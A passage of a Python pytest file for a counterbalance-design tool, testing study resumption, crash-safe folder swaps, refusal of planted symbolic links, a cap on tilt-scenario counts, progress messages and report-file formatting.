        f"{file}: --resume: {folder} {what}: --resume continues a study of the same problem only; run without --resume to start again"
    ], lines
    assert _tree(out) == before


def test_resume_of_the_same_problem_by_another_path_continues(tmp_path, capsys, monkeypatch):
    """The key is the problem's content wherever its files lie: the same file given by a
    relative path from its folder resumes the study (nothing to run again)."""
    out = tmp_path / "out"
    args = ["--vary", "m_c=300 g:400 g:2", "--jobs", "1", "--no-plot", "--out", str(out), "--set", "parameters.b_c.value=150 mm"]
    code, lines, _ = _main(["study", str(PROBLEMS / "yasir2019_counter_mass.toml"), *args], capsys)
    assert code == 0, lines
    monkeypatch.chdir(PROBLEMS)
    code, lines, _ = _main(["study", "yasir2019_counter_mass.toml", *args, "--resume"], capsys)
    assert code == 0, lines


def _two_studies(tmp_path):
    """A finished study of the pendulum and a second plan for the same folder."""
    from counterpoise.studies.spec import plan_study
    from counterpoise.studies.study import run_study

    problem = _pendulum()
    first = run_study(problem, plan_study(problem, ["m=500 g:900 g:5"], "f"), tmp_path, batch_size=2)
    return problem, first.folder, (first.folder / "study.csv").read_text(encoding="utf-8"), plan_study(problem, ["m=400 g:600 g:3"], "f")


def test_a_signal_between_the_renames_of_the_final_swap_keeps_the_earlier_study(tmp_path, monkeypatch):
    """Item 3: SIGTERM (an exception in the main thread) after the earlier study was moved
    aside and before the new one was moved in deleted the earlier study. Now it is put back,
    the new one stays in .partial, and --resume finishes the swap."""
    from counterpoise.studies import study as module
    from counterpoise.studies.command import StudyTerminated
    from counterpoise.studies.study import read_rows, run_study

    problem, folder, before, second = _two_studies(tmp_path)
    real = os.rename
    calls = []

    def rename(src, dst):
        calls.append((Path(src).name, Path(dst).name))
        if Path(src).name.endswith(".partial"):
            raise StudyTerminated()  # the signal arrives just before the new study is moved in
        return real(src, dst)

    monkeypatch.setattr(module.os, "rename", rename)
    with pytest.raises(StudyTerminated):
        run_study(problem, second, tmp_path, batch_size=2)
    monkeypatch.setattr(module.os, "rename", real)
    assert calls[0] == ("pendulum-study", ".pendulum-study.old")  # the earlier study was moved aside first
    assert (folder / "study.csv").read_text(encoding="utf-8") == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pendulum-study", "pendulum-study.partial"]
    resumed = run_study(problem, second, tmp_path, resume=True, batch_size=2)
    assert resumed.skipped == 3 and resumed.run == 0
    assert [r["m [g]"] for r in read_rows(folder / "study.csv")] == ["400", "500", "600"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pendulum-study"]


@pytest.mark.parametrize("killed", ["after moving aside", "while removing"])
def test_a_kill_during_the_final_swap_loses_no_study(tmp_path, monkeypatch, killed):
    """Item 3, a process killed outright (no clean-up runs): between moving the earlier study
    aside and moving the new one in, the earlier one is aside and the next study into the
    folder puts it back; while removing the earlier one, the new one is in, and the leftover
    is removed."""
    from counterpoise.studies import study as module
    from counterpoise.studies.study import read_rows, run_study

    problem, folder, before, second = _two_studies(tmp_path)

    class Killed(BaseException):
        pass

    real_rename, real_rmtree = os.rename, module.shutil.rmtree

    def rename(src, dst):
        if Path(src).name.endswith(".partial"):
            raise Killed()
        return real_rename(src, dst)

    def rmtree(path, *args, **kwargs):
        if Path(path).name.endswith(".old"):
            raise Killed()
        return real_rmtree(path, *args, **kwargs)

    monkeypatch.setattr(module, "_recover", lambda folder: None)  # killed: no clean-up runs
    if killed == "after moving aside":
        monkeypatch.setattr(module.os, "rename", rename)
    else:
        monkeypatch.setattr(module.shutil, "rmtree", rmtree)
    with pytest.raises(Killed):
        run_study(problem, second, tmp_path, batch_size=2)
    monkeypatch.undo()
    aside = tmp_path / ".pendulum-study.old"
    if killed == "after moving aside":
        assert not folder.exists() and (aside / "study.csv").read_text(encoding="utf-8") == before
        run_study(problem, second, tmp_path, resume=True, batch_size=2)  # puts it back, then swaps
    else:
        assert (aside / "study.csv").read_text(encoding="utf-8") == before and [r["m [g]"] for r in read_rows(folder / "study.csv")] == ["400", "500", "600"]
        run_study(problem, second, tmp_path, resume=True, batch_size=2)
    assert [r["m [g]"] for r in read_rows(folder / "study.csv")] == ["400", "500", "600"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pendulum-study"]


@pytest.mark.parametrize("planted", ["lock", "partial", "folder", "aside"])
def test_a_planted_link_beside_a_study_is_refused(tmp_path, capsys, planted):
    """Item 4: a symbolic link at the study's lock file had its target truncated and
    overwritten (opened without O_NOFOLLOW); one at <problem>-study.partial made the study
    write study.csv and study.json into its target. Any link where the study writes is now
    one line naming it, exit 2, and the target is left as it was."""
    file = PROBLEMS / "yasir2019_counter_mass.toml"
    out, victim = tmp_path / "out", tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me\n", encoding="utf-8")
    args = ["study", str(file), "--vary", "m_c=300 g:400 g:2", "--jobs", "1", "--no-plot", "--out", str(out)]
    if planted in ("partial", "aside"):  # they are used when the folder holds a study
        code, lines, _ = _main(args, capsys)
        assert code == 0, lines
    name = "yasir2019_counter_mass-study"
    link = out / {"lock": f".{name}.lock", "partial": f"{name}.partial", "folder": name, "aside": f".{name}.old"}[planted]
    out.mkdir(exist_ok=True)
    link.symlink_to(victim / "precious.txt" if planted == "lock" else victim)
    before, outside = _tree(out), _tree(victim)
    code, lines, _ = _main(args, capsys)
    assert code == 2 and len(lines) == 1, lines
    assert lines[0].startswith(f"{file}: --out: '{link}' is a symbolic link (to '{os.readlink(link)}')"), lines
    assert _tree(victim) == outside and _tree(out) == before


def test_a_planted_link_at_a_report_folder_is_refused(tmp_path, capsys):
    """Item 4, the solve: a link at <out>/<problem> is one line naming it, exit 2; neither
    its target nor the link is changed."""
    file = PROBLEMS / "yasir2019_counter_mass.toml"
    out, victim = tmp_path / "out", tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me\n", encoding="utf-8")
    out.mkdir()
    link = out / "yasir2019_counter_mass"
    link.symlink_to(victim)
    code, lines, _ = _main(["solve", str(file), "--out", str(out)], capsys)
    assert code == 2 and lines[-1].startswith(f"{file}: --out: '{link}' is a symbolic link (to '{victim}')"), lines
    assert _tree(victim) == {"precious.txt": b"keep me\n"} and _tree(out) == {"yasir2019_counter_mass": b"-> " + str(victim).encode()}


def test_many_tilt_axes_are_refused_at_once(tmp_path, capsys):
    """Item 9: tilts multiply the scenarios by 3 per axis with no cap (20 axes: 3^20 scenarios,
    a MemoryError, exit 3; 10 axes: validate ran over 120 s). Now one line with the count
    and what to change, exit 2, before any scenario is made."""
    text = (PROBLEMS / "tilt_counter_mass_arm.toml").read_text(encoding="utf-8")
    start = text.index("tilt = [")
    end = text.index("\n]\n", start) + 3
    axes = "".join(f'  {{ axis = [1, {i}, 0], range = ["-15 deg", "15 deg"] }},\n' for i in range(20))
    (tmp_path / "tilts.toml").write_text(text[:start] + "tilt = [\n" + axes + "]\n" + text[end:], encoding="utf-8")
    started = time.perf_counter()
    code, lines, _ = _main(["validate", str(tmp_path / "tilts.toml")], capsys)
    assert code == 2 and lines == [
        f"{tmp_path / 'tilts.toml'}: gravity.tilt: 20 tilt ranges give 3^20 = 3,486,784,401 tilt nodes: 3,486,784,401 balance scenarios, "
        "more than the 81 designed at once (MAX_SCENARIOS, counterpoise/model/tilt.py); use fewer tilt axes, fix a tilt at one angle "
        "(range = ['5 deg', '5 deg']: one node)"
    ], lines
    assert time.perf_counter() - started < 60  # it ran out of memory before; the cap is checked before the grid is made


def test_building_many_scenarios_says_so(monkeypatch):
    """Item 9: three tilts on a catalogue problem ran 392 s with no output; the build of the
    balance conditions (≈ 30 s for 27 scenarios) ran outside every progress phase. It is now
    a phase of its own: past SLOW_PHASE_S it says so on a terminal (here a sink that asks
    for timed notes, with the threshold at 0 s)."""
    from counterpoise import progress
    from counterpoise.io.loader import load_problem
    from counterpoise.pipeline import build_method

    problem = load_problem(PROBLEMS / "tilt_counter_mass_arm.toml")
    monkeypatch.setattr(progress, "SLOW_PHASE_S", 0.0)
    lines: list[str] = []
    with progress.sink(lines.append, timed=True):
        build_method(problem)
    assert lines[0] == "tilt_counter_mass_arm: building the balance conditions of 9 scenarios ..."
    assert lines[1].startswith("tilt_counter_mass_arm: building the balance conditions of 9 scenarios: done in ")


def test_status_txt_ends_with_a_newline_whatever_wrote_its_last_line(monkeypatch):
    """Printing and reading: status.txt had no final newline. Each layer adds its own lines
    (parts, payload, robust, warnings); the file ends with one whichever wrote last, here a
    layer whose text lacks it."""
    from conftest import solved
    from counterpoise.realisation.layer import LAYER
    from counterpoise.report import files

    monkeypatch.setattr(type(LAYER), "status_lines", lambda self, result: "designed spring: a line without its newline")
    text = files.report_texts(solved("yasir2019_counter_mass"), warnings=())["status.txt"]
    assert "designed spring: a line without its newline\n" in text and text.endswith("\n")
